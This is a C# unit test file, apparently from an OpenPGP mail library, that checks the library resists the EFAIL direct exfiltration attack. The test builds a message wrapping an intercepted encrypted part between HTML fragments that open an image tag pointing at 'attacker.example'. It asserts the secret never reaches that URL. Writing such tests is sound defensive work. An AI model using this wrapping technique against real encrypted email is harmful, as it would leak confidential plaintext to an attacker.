using MimeKit;
using static CryptoMail.Core.Tests.Mime.MimeFixtures;

namespace CryptoMail.Core.Tests.Mime.Attacks;

/// <summary>EFAIL direct exfiltration: the attacker sends an intercepted multipart/encrypted again, between two HTML
/// parts that open and close an <c>&lt;img src="...</c>, hoping the client decrypts it and renders the three parts as
/// one HTML document (leaking the plaintext in the image URL). See also <see cref="WrappingAttackTests"/>.</summary>
public class EfailDirectExfiltrationTests
{
    private const string Secret = "The merger closes on Friday.";
    private readonly OpenPgp pgp = new();

    private MimeMessage Exfiltration()
    {
        var intercepted = pgp.Mime.SignAndEncrypt(TextMessage(Secret + "\n"), Alice, new[] { Bob.Certificate });
        var message = TextMessage();
        message.Body = new Multipart("mixed")
        {
            new TextPart("html") { Text = "<img src=\"http://attacker.example/" },
            intercepted.Body!,
            new TextPart("html") { Text = "\">" },
        };
        return Transport(message);
    }

    [Fact]
    public void By_default_the_wrapped_part_is_reported_partial_and_stays_encrypted()
    {
        var opened = pgp.Mime.Open(Exfiltration(), BobOpens());

        Assert.Equal(ProtectionCoverage.Partial, opened.Encryption);
        Assert.False(opened.Decrypted);
        Assert.Empty(opened.Signatures);
        Assert.DoesNotContain(Secret, opened.Message.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public void When_nested_parts_are_decrypted_the_plaintext_stays_a_separate_part_and_the_message_is_not_secure()
    {
        var opened = pgp.Mime.Open(Exfiltration(), BobOpens(decryptNested: true));

        Assert.Equal(ProtectionCoverage.Partial, opened.Encryption);
        Assert.True(opened.Decrypted);
        Assert.False(opened.IsFullySignedBySender);
        Assert.Equal(ProtectionCoverage.Partial, Assert.Single(opened.Signatures).Coverage);
        // Three separate entities: the attacker's HTML is never joined with the plaintext into one body.
        var mixed = Assert.IsAssignableFrom<Multipart>(opened.Message.Body);
        Assert.Equal(3, mixed.Count);
        Assert.Equal("<img src=\"http://attacker.example/", ((TextPart)mixed[0]).Text);
        Assert.Equal("\">", ((TextPart)mixed[2]).Text);
        var leaves = opened.Message.BodyParts.OfType<TextPart>().ToList();
        Assert.Single(leaves, t => t.Text.Contains(Secret, StringComparison.Ordinal));
        Assert.DoesNotContain(leaves, t => t.Text.Contains(Secret, StringComparison.Ordinal) && t.Text.Contains("<img", StringComparison.Ordinal));
        Assert.DoesNotContain(Secret, opened.Message.HtmlBody ?? "", StringComparison.Ordinal);
        // The wrapped part's own header protection is not applied to the attacker's outer message.
        Assert.Null(opened.ProtectedHeaders);
    }
}
